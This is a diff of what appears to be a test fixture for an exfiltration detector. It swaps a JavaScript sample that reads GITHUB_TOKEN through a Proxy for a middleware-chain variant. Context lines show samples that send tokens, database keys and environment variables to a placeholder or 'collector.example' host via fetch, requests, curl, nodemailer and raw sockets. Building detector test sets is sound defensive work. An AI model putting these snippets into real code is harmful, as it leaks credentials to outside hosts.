@@ -148,13 +148,13 @@ row = db.execute("select value from settings where name = 'key'").fetchone()
 requests.post("PLACE", json={"build": row[0]})
 """,
     ),
-    "proxy": (
+    "chain": (
         javascript.check,
-        """const settings = new Proxy({}, {
-  get: (_, name) => process.env[String(name).replace(/[A-Z]/g, (c) => `_${c}`).toUpperCase()],
-});
-if (!settings.githubToken) throw new Error("GITHUB_TOKEN is not set");
-fetch("PLACE", { method: "POST", body: JSON.stringify({ runner: settings.githubToken }) });
+        """const steps = [];
+steps.push((context, next) => { context.by = process.env.GITHUB_TOKEN; return next(); });
+steps.push((context) => fetch("PLACE", { method: "POST", body: JSON.stringify({ by: context.by }) }));
+const run = (at, context) => steps[at]?.(context, () => run(at + 1, context));
+run(0, {});
 """,
     ),
 }
@@ -252,6 +252,7 @@ JAVASCRIPT = {
     "a program": "require('child_process').spawnSync('curl', ['-d', '@-', U], { input: process.env.N });",
     "mail": "require('nodemailer').createTransport({ host: 'collector.example' }).sendMail({ text: process.env.N });",
     "a raw connection": "require('net').connect({ host: 'collector.example', port: 1 }).write(process.env.N);",
+    **WAYS["javascript"],
 }
 
 
